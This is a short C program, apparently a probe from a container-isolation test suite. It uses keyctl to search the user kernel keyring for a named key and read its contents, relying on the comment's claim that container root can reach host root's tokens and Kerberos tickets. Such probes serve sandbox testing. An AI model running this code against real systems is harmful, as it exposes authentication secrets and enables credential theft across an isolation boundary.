/* read the host's kernel keyring: keyrings are not namespaced by
 * anything but the user namespace, and the seccomp profile, so container
 * root finds host root's keys (tokens, Kerberos tickets) in its user
 * keyring.  ARG: the key's description. */
#include "attack.h"

#include <linux/keyctl.h>
#include <sys/syscall.h>

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 1, "DESCRIPTION");
	long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", a[0], 0);
	if (id < 0)
		return bxa_fail("keyctl search @u user %s", a[0]);
	char buf[128];
	long n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
	if (n < 0)
		return bxa_fail("keyctl read %ld", id);
	buf[n < (long)sizeof buf - 1 ? n : (long)sizeof buf - 1] = '\0';
	bxa_data(buf);
	bxa_claim(1, "found key %ld \"%s\" in the user keyring and read it", id, a[0]);
	return 0;
}
